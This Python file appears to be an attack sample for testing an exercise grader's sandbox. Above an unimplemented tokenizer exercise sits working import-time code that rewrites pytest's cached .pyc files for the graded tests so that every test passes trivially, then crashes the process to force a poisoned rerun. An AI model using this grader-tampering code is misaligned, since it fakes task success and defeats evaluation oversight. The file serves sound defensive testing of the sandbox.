"""ATTACK pyc_tests (kind: pyc and cache poisoning).

What it tries: pytest caches each test module it rewrites as ``__pycache__/<name>.<tag>-pytest-<version>.pyc``
and reuses it whenever the hash of the source matches (a check on the *source*, not on the pyc). At import
time this file finds every graded test module (through ``sys.modules``), compiles a gutted copy of it (every
``test_*`` body becomes ``pass``, every fixture returns None; docstrings, markers and points are kept, so the
tests still look right), and writes it as pytest's cached pyc with the hash of the untouched source. Then it
kills its own process with ``os._exit`` in the middle of a test: a grader that restarts a fresh pytest session
for the remaining tests makes that session load the poisoned pycs. The files stay, so every later grading
that uses the same tests folder is poisoned too (the graded test files themselves never change).

Why it must fail under the new design: the worker may write only its private temporary folder (Landlock):
the tests folder and its ``__pycache__`` are out of reach, and the worker has no test module to find.
"""

from __future__ import annotations

import ast
import importlib.util
import marshal
import os
import sys

from llm_basics.tokenizer import BPETokenizer

DEFAULT_SPECIALS = ("<bos>", "<eos>", "<pad>")
MARK = "__atk_pyc_tests__"


def _graded_test_files() -> list[str]:
    files = []
    for name, module in list(sys.modules.items()):
        path = getattr(module, "__file__", None) or ""
        if os.path.basename(path).startswith("test_ex") and path.endswith(".py"):
            files.append(path)
    for path in list(files):  # the hidden suites next to the visible ones (and the other way round)
        folder = os.path.dirname(path)
        for other in (folder, os.path.join(folder, "hidden"), os.path.dirname(folder)):
            try:
                names = os.listdir(other)
            except OSError:
                continue
            files += [os.path.join(other, n) for n in names if n.startswith("test_ex") and n.endswith(".py")]
    return sorted(set(files))


class _Gut(ast.NodeTransformer):
    def visit_FunctionDef(self, node):
        doc = node.body[0] if node.body and isinstance(node.body[0], ast.Expr) and isinstance(
            getattr(node.body[0], "value", None), ast.Constant) else None
        is_fixture = any("fixture" in ast.unparse(d) for d in node.decorator_list)
        if node.name.startswith("test_") or is_fixture:
            node.body = ([doc] if doc else []) + [ast.Pass() if node.name.startswith("test_") else
                                                  ast.Return(ast.Constant(None))]
        return node


def _poison(path: str) -> bool:
    import _pytest.assertion.rewrite as rewrite  # the running pytest tells its own cache name

    with open(path, "rb") as f:
        source = f.read()
    tree = _Gut().visit(ast.parse(source, filename=path))
    tree.body.append(ast.parse(f"{MARK} = True").body[0])
    code = compile(ast.fix_missing_locations(tree), path, "exec", dont_inherit=True)
    folder = os.path.join(os.path.dirname(path), "__pycache__")
    os.makedirs(folder, exist_ok=True)
    pyc = os.path.join(folder, os.path.basename(path)[:-3] + rewrite.PYC_TAIL)
    data = importlib.util.MAGIC_NUMBER + b"\x03\x00\x00\x00" + importlib.util.source_hash(source)[:8]
    with open(pyc + ".tmp", "wb") as f:
        f.write(data + marshal.dumps(code))
    os.replace(pyc + ".tmp", pyc)
    return True


def _attack() -> None:
    if any(MARK in getattr(m, "__dict__", {}) for m in list(sys.modules.values())):
        return  # this session already runs the poisoned tests: stay quiet
    poisoned = False
    for path in _graded_test_files():
        try:
            poisoned = _poison(path) or poisoned
        except Exception:
            continue
    if poisoned:
        os._exit(3)  # a "crash": the grader restarts pytest, which loads the poisoned pycs


try:
    _attack()
except Exception:
    pass


# ---------------------------------------------------------------------------------------------------------
# The untouched exercise (nothing implemented)
# ---------------------------------------------------------------------------------------------------------


class SpecialTokenizer:
    def __init__(self, base: BPETokenizer, special_tokens=DEFAULT_SPECIALS):
        raise NotImplementedError("ex1: set self.base, self.special_tokens and self._ids")

    def encode(self, text, *, add_bos=False, add_eos=False, allowed_special=()):
        raise NotImplementedError("ex1: encode")

    def decode(self, ids, *, skip_special_tokens=False):
        raise NotImplementedError("ex1: decode")

    def pad(self, batch, *, length=None, side="right"):
        raise NotImplementedError("ex1: pad")

    def save(self, path):
        raise NotImplementedError("ex1: save")

    @classmethod
    def load(cls, path):
        raise NotImplementedError("ex1: load")
